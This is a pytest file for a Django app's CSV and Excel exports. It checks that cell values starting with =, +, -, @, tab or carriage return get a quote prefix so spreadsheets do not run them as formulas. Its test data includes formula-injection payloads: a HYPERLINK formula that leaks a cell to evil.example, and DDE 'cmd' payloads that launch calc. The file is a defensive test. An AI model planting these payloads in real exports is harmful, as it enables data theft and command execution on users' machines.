"""Every CSV and Excel download neutralizes cells a spreadsheet would run as a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from cs360 import exports
from tests.dashboard.public_data import finish_import, publish, records
from tests.factories import OrganizationFactory

# Each leading character a spreadsheet treats as the start of a formula, with a payload.
HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_formula_leading_text_gets_a_quote(value):
    assert exports.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-3.5", "+7", "1e3", "Main St", "", "a=b", 42, -4.5])
def test_numbers_and_plain_text_are_left_alone(value):
    assert exports.safe_cell(value) == value


def _csv(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_community_map_csv_and_excel_exports(client_for, alice, riverton, value):
    OrganizationFactory(agency=riverton, name=value, notes=value, phone="-5")
    client = client_for(alice)
    rows = _csv(client.get("/a/riverton-pd/map/organizations/export/"))
    header, row = rows[0], rows[1]
    assert row[header.index("Name")] == "'" + value
    assert row[header.index("Notes")] == "'" + value
    assert row[header.index("Phone")] == "-5"  # a real number stays a number

    response = client.get("/a/riverton-pd/map/organizations/export/?as=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=1)
    # XML reads a carriage return back as a line feed; the text is otherwise unchanged.
    assert cell.value == value.replace("\r", "\n") and cell.data_type == "s"
    assert cell.quotePrefix
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_public_chart_and_open_data_csvs(client, riverton, value):
    publish(riverton)
    records(riverton, 30, district=value)
    finish_import(riverton)
    rows = _csv(client.get("/p/riverton-pd/data/by-district.csv"))
    assert rows[1][0] == "'" + value
    rows = _csv(client.get("/p/riverton-pd/open-data/incidents.csv"))
    district = rows[0].index("district")
    assert {row[district] for row in rows[1:]} == {"'" + value}
